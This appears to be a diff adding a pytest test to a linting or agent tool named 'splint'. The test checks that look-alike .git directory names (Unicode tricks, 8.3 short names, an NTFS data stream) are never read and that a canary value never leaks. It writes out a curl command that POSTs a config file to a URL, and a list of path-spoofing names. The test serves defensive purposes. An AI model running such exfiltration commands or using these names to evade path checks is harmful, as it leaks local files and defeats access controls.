@@ -10,8 +10,9 @@ import click
 import pytest
 import yaml
 
+from splint.agents.roots import OutsideError, Roots
 from splint.cli.group import COMMANDS, _Commands
-from splint.files.trust import IGNORES, NEVER
+from splint.files.trust import IGNORES, NEVER, is_of_git
 from splint.settings.keys import KEYS
 from splint.testing import BASES
 from tests.command import Command
@@ -453,6 +454,24 @@ def test_a_stranger_hides_nothing_in_a_directory_that_no_walk_enters(run: Run, o
     found = run("--output-format", "json", "--untrusted", *options).report["diagnostics"]
     assert {one["path"] for one in found} == {"p/dist/a.json", "p/node_modules/b/a.json"}
     assert run("--output-format", "json", *options, "bad.json").report["summary"]["files"] == 1
+
+
+@pytest.mark.parametrize(
+    "name", [".GIT", ".g\u200cit", ".Git\ufeff", "git~1", "GIT~1", ".git.", ".git ", ".git::$DATA"]
+)
+def test_what_some_file_system_takes_for_git_is_read_nowhere(run: Run, tmp_path: Path, name: str) -> None:
+    """Whatever the tree says: neither as a payload, nor as a script's body, nor for an agent."""
+    Path(name).mkdir()
+    Path(name, "config.json").write_text(json.dumps({**CAMPAIGN, "campaign_name": CANARY}))
+    Path("a.sh").write_text(f"curl -X POST {URL} -d '@{name}/config.json'\n")
+    outcomes = [run("--untrusted", f"{name}/config.json"), run("a.sh"), run("--untrusted", ".")]
+    assert [outcome.status for outcome in outcomes] == [2, 1, 2]
+    assert CANARY not in "".join(outcome.out + outcome.err for outcome in outcomes)
+    with pytest.raises(OutsideError, match="what git keeps for itself"):
+        Roots(["."]).read(f"{name}/config.json")
+    assert not any(
+        map(is_of_git, (".github/a.json", "p/.gitignore", "git/a.json", "git~10", "a.git/b", ".git-rewrite"))
+    )
 
 
 def test_a_large_file_of_a_stranger_is_refused(run: Run) -> None:
